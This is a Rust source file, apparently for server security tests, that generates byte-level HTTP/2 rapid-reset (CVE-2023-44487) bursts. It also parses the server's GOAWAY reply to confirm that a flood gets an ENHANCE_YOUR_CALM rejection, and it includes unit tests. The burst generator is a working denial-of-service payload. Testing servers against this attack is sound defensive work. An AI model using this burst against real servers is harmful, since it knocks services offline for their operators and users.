//! Raw HTTP/2 frames for attack tests: the rapid-reset burst (CVE-2023-44487) and reading the
//! server's `GOAWAY`.

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const GOAWAY: u8 = 0x7;
const CANCEL: u32 = 0x8;

/// HTTP/2's `ENHANCE_YOUR_CALM` error code: what a server answers a flood with.
pub const ENHANCE_YOUR_CALM: u32 = 0xb;

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = u32::try_from(payload.len()).unwrap_or(u32::MAX);
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// A client's preface, an empty SETTINGS, then `streams` streams each opened (`GET /` from
/// HPACK's static table: `:method GET`, `:scheme http`, `:path /`, END_STREAM) and at once
/// cancelled (RST_STREAM CANCEL): the rapid-reset attack, as bytes to write in one go.
pub fn rapid_reset_burst(streams: u32) -> Vec<u8> {
    let mut out = PREFACE.to_vec();
    frame(&mut out, SETTINGS, 0, 0, &[]);
    for i in 0..streams {
        let stream = 2 * i + 1;
        frame(&mut out, HEADERS, 0x4 | 0x1, stream, &[0x82, 0x86, 0x84]);
        frame(&mut out, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
    }
    out
}

/// The error code of the first `GOAWAY` among the frames in `bytes` (what a server sent, from
/// its first frame on), if there is a whole one.
pub fn goaway_code(bytes: &[u8]) -> Option<u32> {
    let mut at = 0;
    while at + 9 <= bytes.len() {
        let len = u32::from_be_bytes([0, bytes[at], bytes[at + 1], bytes[at + 2]]) as usize;
        let payload = bytes.get(at + 9..at + 9 + len)?;
        if bytes[at + 3] == GOAWAY {
            let code = payload.get(4..8)?;
            return Some(u32::from_be_bytes([code[0], code[1], code[2], code[3]]));
        }
        at += 9 + len;
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_burst_is_the_preface_settings_and_two_frames_per_stream() {
        let burst = rapid_reset_burst(2);
        assert!(burst.starts_with(PREFACE));
        // SETTINGS (9) + 2 x (HEADERS 9+3, RST_STREAM 9+4)
        assert_eq!(burst.len(), PREFACE.len() + 9 + 2 * (12 + 13));
        let frames = &burst[PREFACE.len()..];
        assert_eq!(goaway_code(frames), None);
    }

    #[test]
    fn a_goaway_is_found_after_other_frames() {
        let mut bytes = Vec::new();
        frame(&mut bytes, SETTINGS, 0, 0, &[0; 6]);
        let mut payload = 7u32.to_be_bytes().to_vec();
        payload.extend_from_slice(&ENHANCE_YOUR_CALM.to_be_bytes());
        frame(&mut bytes, GOAWAY, 0, 0, &payload);
        assert_eq!(goaway_code(&bytes), Some(ENHANCE_YOUR_CALM));
        assert_eq!(goaway_code(&bytes[..bytes.len() - 1]), None);
    }
}
